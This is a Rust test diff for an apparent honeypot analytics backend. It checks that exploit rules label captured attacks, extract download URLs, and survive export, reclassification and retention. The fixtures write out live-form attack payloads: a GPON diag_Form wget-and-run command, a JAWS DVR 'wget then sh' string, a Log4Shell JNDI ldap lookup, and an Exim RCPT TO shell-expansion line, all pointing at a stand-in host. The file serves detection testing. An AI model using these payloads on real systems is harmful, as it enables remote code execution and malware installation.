@@ -960,3 +960,146 @@ fn scan_windows_make_the_scan_report() {
         assert_eq!(r, &results[0], "scans differ between backends");
     }
 }
+
+// ---------------------------------------------------------------------------------------------
+// Exploit rules: derived at ingest, listed with their CVEs, exported, re-applied by reclassify.
+
+fn http_ev(seq: u64, t: i64, method: &str, path: &str, query: &str, ua: &str) -> Event {
+    let mut e = ev(seq);
+    e.time_ms = t;
+    e.detail = Detail::HttpRequest {
+        method: method.into(),
+        path: path.into(),
+        query: query.into(),
+        host: "198.51.100.1".into(),
+        user_agent: ua.into(),
+        body_sha256: None,
+        body_len: 0,
+        extra: vec![],
+    };
+    e
+}
+
+fn names_of(rows: &[analytics::ItemRow]) -> Vec<(String, String, i64)> {
+    let mut v: Vec<(String, String, i64)> = rows.iter().map(|r| (r.key.clone(), r.detail.clone(), r.count)).collect();
+    v.sort();
+    v
+}
+
+fn exploit_rules_at_ingest_and_reclassify(db: &mut dyn Storage) {
+    use crate::exploits::{reclassify::reclassify, ExploitsConfig, Matcher};
+    const T: i64 = 1_714_521_600_000; // a day boundary
+    sensors::register(db, "pi", "aa", 0).unwrap();
+    let id = db.enrollment("pi").unwrap().unwrap().sensor_id;
+    let mut body = ev(2);
+    body.time_ms = T + 2;
+    let gpon = b"XWebPageName=diag&diag_action=ping&dest_host=`busybox+wget+http://203.0.113.9/g.sh+-O+->/tmp/g`";
+    body.detail = Detail::Payload {
+        sha256: [9; 32],
+        size: 90,
+        name: "/GponForm/diag_Form".into(),
+        prefix: gpon.to_vec(),
+        truncated: false,
+    };
+    let mut smtp = ev(6);
+    smtp.time_ms = T + 6;
+    smtp.protocol = Protocol::Smtp;
+    smtp.detail = Detail::Command { line: "RCPT TO:<${run{\\x2Fbin\\x2Fsh\\t-c\\t\\x22id\\x22}}@localhost>".into() };
+    let mut smb = ev(7);
+    smb.time_ms = T + 7;
+    smb.protocol = Protocol::Smb;
+    smb.detail = Detail::Exploit { name: "ms17-010".into(), cve: "CVE-2017-0144".into(), extra: vec![] };
+    let mut last = ev(8);
+    last.time_ms = T + 2 * DAY_MS;
+    let evs = vec![
+        http_ev(1, T + 1, "POST", "/GponForm/diag_Form", "images/", "Hello, World"),
+        body,
+        http_ev(3, T + 3, "GET", "/shell", "cd+/tmp;wget+http://203.0.113.9/jaws;sh+jaws", "Hello, world"),
+        http_ev(4, T + 4, "GET", "/", "", "${${lower:j}ndi:ldap://203.0.113.9:1389/a}"),
+        http_ev(5, T + 5, "GET", "/index.html", "", "Mozilla/5.0"),
+        smtp,
+        smb,
+        last,
+    ];
+    assert_eq!(commit(db, id, 8, &evs), BatchOutcome::Ack(8));
+    let q = Query { since_ms: Some(T - 3_600_000), until_ms: Some(T + 3_600_000), sensor: None, ..Default::default() };
+    let en = crate::enrich::Enricher::new(&Default::default()).unwrap();
+    analytics::refresh(db, &en).unwrap();
+    let mut shipped = vec![
+        ("GPON router auth bypass and diag_Form RCE".to_string(), "CVE-2018-10561, CVE-2018-10562".to_string(), 1),
+        ("JAWS/MVPower DVR shell RCE".to_string(), String::new(), 1),
+        ("Log4Shell JNDI lookup".to_string(), "CVE-2021-44228, CVE-2021-45046".to_string(), 1),
+        ("Exim RCPT TO expansion RCE".to_string(), "CVE-2019-10149".to_string(), 1),
+        ("ms17-010".to_string(), "CVE-2017-0144".to_string(), 1),
+    ];
+    shipped.sort();
+    assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), shipped);
+    let downloads = vec![
+        ("http://203.0.113.9/g.sh".to_string(), "wget".to_string(), 1),
+        ("http://203.0.113.9/jaws".to_string(), "wget".to_string(), 1),
+        ("ldap://203.0.113.9:1389/a".to_string(), "jndi".to_string(), 1),
+    ];
+    assert_eq!(names_of(&analytics::downloads(&*db, &q, 50).unwrap()), downloads);
+    // One sensor's lists, and a list that stops early, read the derived records too.
+    let mine = Query { sensor: Some("pi".into()), ..q.clone() };
+    assert_eq!(analytics::exploits(&*db, &mine, 50).unwrap().len(), 5);
+    assert_eq!(analytics::exploits(&*db, &q, 2).unwrap().len(), 2);
+    // The export carries them: per event and per attack.
+    let (_, text) = export_text(db);
+    // Compared as JSON values: key order inside an object is serde_json's (insertion order when
+    // the `yara` feature's yara-x turns on `preserve_order`, sorted otherwise).
+    let gpon = serde_json::json!({"name": "GPON router auth bypass and diag_Form RCE", "cve": "CVE-2018-10561, CVE-2018-10562"});
+    let first_exploits = text
+        .lines()
+        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
+        .find_map(|v| v.get("exploits").and_then(|e| e.get(0)).cloned());
+    assert_eq!(first_exploits.as_ref(), Some(&gpon), "{text}");
+    assert!(text.contains("GPON router auth bypass and diag_Form RCE (CVE-2018-10561, CVE-2018-10562)"), "{text}");
+    assert!(text.contains("http://203.0.113.9/jaws"), "{text}");
+
+    // Reclassify with the same rules changes nothing, in any batch size.
+    let builtin = Matcher::builtin(&ExploitsConfig::default()).unwrap();
+    for batch in [1, 2, 1000] {
+        let r = reclassify(&*db, &builtin, batch).unwrap();
+        assert_eq!((r.scanned, r.changed), (6, 0), "batch {batch}");
+    }
+    // A new rule: history gets it, exactly once, and a second run changes nothing.
+    let mut more = Matcher::builtin(&ExploitsConfig::default()).unwrap();
+    more.add(
+        crate::exploits::rules::parse(
+            "test",
+            "[[rule]]\nname = \"Index probe\"\ncve = [\"CVE-1999-0001\"]\nprotocols = [\"http\"]\n[[rule.when]]\nfield = \"path\"\nequals = \"/index.html\"\n",
+        )
+        .unwrap(),
+    );
+    assert_eq!(reclassify(&*db, &more, 2).unwrap().changed, 1);
+    assert_eq!(reclassify(&*db, &more, 2).unwrap().changed, 0);
+    let mut with_new = shipped.clone();
+    with_new.push(("Index probe".to_string(), "CVE-1999-0001".to_string(), 1));
+    with_new.sort();
+    assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), with_new);
+    // The rule removed again: back to the shipped results (the body's URL was kept and still
+    // counts: reclassify reads the kept body text).
+    assert_eq!(reclassify(&*db, &builtin, 3).unwrap().changed, 1);
+    assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), shipped);
+    assert_eq!(names_of(&analytics::downloads(&*db, &q, 50).unwrap()), downloads);
+    // No rules at all: every derived record goes, the sensor's own exploit stays.
+    let none = Matcher::empty(&ExploitsConfig::default());
+    assert_eq!(reclassify(&*db, &none, 1000).unwrap().changed, 3 + 1);
+    assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), vec![shipped[4].clone()]);
+    assert_eq!(reclassify(&*db, &builtin, 1000).unwrap().changed, 4);
+    // Retention takes the derived records with their events.
+    // (PostgreSQL deletes whole days: the last event is two days later.)
+    analytics::refresh(db, &en).unwrap();
+    assert_eq!(db.delete_events_before(T + DAY_MS, 1000).unwrap(), 7);
+    assert_eq!(names_of(&analytics::exploits(&*db, &q, 50).unwrap()), vec![]);
+    assert!(analytics::downloads(&*db, &q, 50).unwrap().is_empty());
+    assert_eq!(reclassify(&*db, &builtin, 1000).unwrap().scanned, 0);
+}
+
+#[test]
+fn exploit_rules() {
+    for (mut db, _dir) in backends() {
+        exploit_rules_at_ingest_and_reclassify(&mut *db);
+    }
+}
